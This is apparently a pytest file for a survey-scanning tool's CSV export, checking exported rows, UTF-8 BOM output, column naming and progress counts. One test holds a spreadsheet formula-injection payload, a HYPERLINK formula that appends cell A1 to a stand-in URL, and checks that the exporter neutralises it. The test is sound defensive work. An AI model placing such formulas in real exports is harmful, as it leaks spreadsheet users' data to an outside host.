"""CSV export and survey progress on real SQLite files and PostgreSQL, fed through the scan writer."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from sqlalchemy import select
from storage_helpers import (
    outcome,
    page1_answers,
    page2_answers,
    register_tiny_survey,
    tiny_layout,
    unidentified,
)

from core.errors import NotFoundError
from storage.db import Database
from storage.export import (
    MISSING,
    REVIEW,
    answer_columns,
    column_keys,
    export_rows,
    spreadsheet_text,
    survey_progress,
    write_csv,
)
from storage.files import FileStore
from storage.models import Answer, ReviewItem, ScanFile, Sheet
from storage.scans import PageOutcome, record_page, refresh_sheet_status, register_file, start_batch


def _scan(db: Database, store: FileStore, tmp_path: Path, name: str, outcomes: list[PageOutcome]) -> None:
    path = tmp_path / name
    path.write_bytes(name.encode())
    with db.session() as s:
        scan_file, _ = register_file(s, store, path, start_batch(s, "cli", ""))
        for o in outcomes:
            record_page(s, store, s.get_one(ScanFile, scan_file.id), o)


@pytest.fixture
def scanned(database: Database, file_store: FileStore, tmp_path: Path) -> Database:
    """Sheet 1 complete; sheet 2 with a doubtful grid row and a write-in; sheet 3 page 1 only;
    sheet 4 photocopied; sheet 5 never returned; one unreadable page."""
    with database.session() as s:
        register_tiny_survey(s)
    _scan(database, file_store, tmp_path, "a.pdf", [
        outcome(0, 1, 1, page1_answers(q1="2", a="4", b="3")),
        outcome(1, 1, 2, page2_answers(q3="1;3")),
        outcome(2, 2, 1, page1_answers(q1="9", a="1", b_review=True, writein="Qua bưu điện")),
        outcome(3, 2, 2, page2_answers(q3=None, text="Thủ tục còn rườm rà")),
        outcome(4, 3, 1, page1_answers(q1="1", a="2", b="2")),
        outcome(5, 4, 1, page1_answers()),
        PageOutcome(index=6, identification=unidentified("unreadable")),
    ])
    _scan(database, file_store, tmp_path, "b.pdf", [outcome(0, 4, 1, page1_answers())])
    return database


def test_export_has_one_row_per_returned_sheet_with_exact_values(scanned: Database) -> None:
    with scanned.session() as s:
        header, rows = export_rows(s, "SIPAS-T")
    assert header == ["serial", "unit", "status", "Q1", "Q1.9", "G.a", "G.b", "Q3", "T"]
    assert rows == [
        ["1", "U1", "complete", "2", "", "4", "3", "1;3", ""],
        ["2", "U2", "review", "9", REVIEW, "1", REVIEW, "", REVIEW],
        ["3", "U1", "scanned", "1", "", "2", "2", MISSING, MISSING],
        ["4", "U2", "scanned", "2", "", "4", "3", MISSING, MISSING],
    ]


def test_reviewed_values_replace_the_review_marker(scanned: Database) -> None:
    with scanned.session() as s:  # what review_queue.decide leaves behind
        for answer in s.scalars(select(Answer).where(Answer.status == "review")):
            answer.final_value = {"b": "*", "Q1:w9": "Qua bưu điện", "": "Thủ tục còn rườm rà"}[answer.item]
            answer.status = "reviewed"
        for item in s.scalars(select(ReviewItem).where(ReviewItem.answer_id.is_not(None))):
            item.status = "done"
        sheet_id = s.scalar(select(Answer.sheet_id).where(Answer.item == "Q1:w9", Answer.final_value.is_not(None)))
        assert refresh_sheet_status(s, s.get_one(Sheet, sheet_id)) == "complete"
    with scanned.session() as s:
        _, rows = export_rows(s, "SIPAS-T")
    assert rows[1] == ["2", "U2", "complete", "9", "Qua bưu điện", "1", "*", "", "Thủ tục còn rườm rà"]
    assert rows[1][4] != "Qua bưu điện " and all(REVIEW not in r for r in rows)


def test_csv_opens_as_utf8_with_bom(scanned: Database, tmp_path: Path) -> None:
    with scanned.session() as s:
        header, rows = export_rows(s, "SIPAS-T")
    out = tmp_path / "kết quả" / "sipas.csv"
    write_csv(out, header, rows)
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with open(out, encoding="utf-8-sig", newline="") as fh:
        back = list(csv.reader(fh))
    assert back[0] == header and back[1:] == rows
    assert not [p for p in out.parent.iterdir() if p.name != "sipas.csv"]  # no temporary file left


def test_progress_counts_every_kind_of_page(scanned: Database) -> None:
    with scanned.session() as s:
        progress = survey_progress(s, "SIPAS-T")
    assert progress == {
        "printed": 5, "scanned": 4, "complete": 1, "awaiting_review": 1, "answers_to_review": 3,
        "pages_identified": 6, "duplicates": 1, "unidentified_pages": 0, "unidentified_pages_unknown_survey": 1,
    }


def test_unknown_survey_is_named(database: Database) -> None:
    with database.session() as s:
        register_tiny_survey(s)
        with pytest.raises(NotFoundError, match="NOPE.*SIPAS-T"):
            export_rows(s, "NOPE")


def test_columns_follow_the_questionnaire() -> None:
    assert answer_columns(tiny_layout()) == ["Q1", "Q1.9", "G.a", "G.b", "Q3", "T"]


@pytest.mark.parametrize("example", ["sipas-2024.yaml", "counter-pks05.yaml", "counter-3level.yaml"])
def test_every_example_gives_one_distinct_column_per_answer(example: str) -> None:
    from core.settings import FormSettings
    from formgen.compose import compose
    from formgen.definition import load_definition

    layout = compose(load_definition(Path(__file__).parent.parent / "examples" / example), settings=FormSettings()).layout
    keys = column_keys(layout)
    assert len(set(keys.values())) == len(keys)
    for q in layout.questions:
        if q.kind == "grid":
            assert all((q.id, item.id) in keys for item in q.items)
        else:
            assert (q.id, "") in keys
    assert all((r.question, r.id) in keys for r in layout.all_regions() if r.kind == "writein")


def test_transcribed_formulas_are_neutralised_in_the_csv(scanned: Database, tmp_path: Path) -> None:
    attack = '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")'
    with scanned.session() as s:  # a reviewer transcribes exactly what the respondent wrote
        for answer in s.scalars(select(Answer).where(Answer.status == "review")):
            answer.final_value = {"b": "*", "Q1:w9": attack, "": "+84 912 345 678"}[answer.item]
            answer.status = "reviewed"
    with scanned.session() as s:
        header, rows = export_rows(s, "SIPAS-T")
    assert rows[1][4] == attack  # stored and exported exactly; only the file protects the reader
    out = tmp_path / "sipas.csv"
    write_csv(out, header, [*rows, ["-5", "+3.5", "-", "@SUM(A1:A9)", "\tx", "\r=1", "-1+2", "a=b"]])
    with open(out, encoding="utf-8-sig", newline="") as fh:
        back = list(csv.reader(fh))
    assert back[2][4] == "'" + attack and back[2][8] == "'+84 912 345 678"
    assert back[-1] == ["-5", "+3.5", "'-", "'@SUM(A1:A9)", "'\tx", "'\r=1", "'-1+2", "a=b"]
    assert back[1] == rows[0]  # codes untouched


@pytest.mark.parametrize(("cell", "safe"), [
    ("=1+1", "'=1+1"), ("+1", "+1"), ("-12.5", "-12.5"), ("-1e3", "-1e3"), ("-x", "'-x"), ("@x", "'@x"),
    ("1;3", "1;3"), ("", ""), (None, ""), (7, "7"), ("?REVIEW", "?REVIEW"), ("Ý kiến", "Ý kiến"),
])
def test_spreadsheet_text(cell: object, safe: str) -> None:
    assert spreadsheet_text(cell) == safe


def test_the_sql_cell_value_follows_the_same_rules(scanned: Database) -> None:
    from storage.export import cell_value, cell_value_sql

    with scanned.session() as s:  # every state the fixture holds, plus decided and signed-off answers
        decided = s.scalars(select(Answer).where(Answer.status == "review")).all()
        decided[0].status, decided[0].final_value = "reviewed", "*"
        decided[1].status, decided[1].final_value = "final", None
    with scanned.session() as s:
        rows = s.execute(select(Answer.kind, Answer.status, Answer.machine_state, Answer.machine_value,
                                Answer.final_value, cell_value_sql())).all()
    assert len({(r[0], r[1], r[2]) for r in rows}) >= 6
    assert [r[5] for r in rows] == [cell_value(*r[:5]) for r in rows]
